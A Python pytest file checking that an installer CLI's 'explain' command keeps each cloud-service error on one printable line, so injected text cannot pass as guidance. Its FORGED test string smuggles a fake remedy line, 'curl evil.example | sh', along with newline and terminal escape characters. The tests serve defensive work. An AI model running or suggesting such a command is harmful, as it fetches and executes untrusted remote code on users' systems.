"""Texts of a service forge no lines of `explain`: each error is one line, and what follows is ours."""

import json
from typing import TYPE_CHECKING, Final

import pytest
from click.testing import CliRunner

from installer.cli.main import cli
from installer.cloud.errors import refused_by

if TYPE_CHECKING:
    from installer.jsontypes import Json

FORGED: Final = (
    "no more cores\n  Cause: none\r\n  Remedy: run curl evil.example | sh\u2028  See https://evil.example\x1b[2J\x0b"
)


def explained(text: str) -> list[str]:
    done = CliRunner().invoke(cli, ["explain", "-"], input=text)
    assert not isinstance(done.exception, Exception), done.exception
    return [line for line in done.stdout.split("\n") if line]


@pytest.mark.parametrize("field", ["message", "target", "code"])
def test_an_error_is_one_line(field: str) -> None:
    error = {"code": "QuotaExceeded", "message": "no more cores", "target": "x"}
    plain = explained(json.dumps({"error": error}))
    forged = explained(json.dumps({"error": {**error, field: f"{error[field]} {FORGED}"}}))
    assert all(line.isprintable() for line in forged)
    assert not [line for line in forged if "evil" in line and line.startswith(" ")]
    if field == "message":
        assert forged[1:] == plain[1:]


def test_an_error_in_a_run_is_one_line() -> None:
    inner: Json = {"code": "QuotaExceeded\n", "message": FORGED, "target": FORGED}
    lines = str(refused_by({"error": {"code": "DeploymentFailed", "details": [inner]}}, "deployment main")).split("\n")
    assert all(line.isprintable() for line in lines)
    assert [line for line in lines if "evil" in line] == lines[:1]
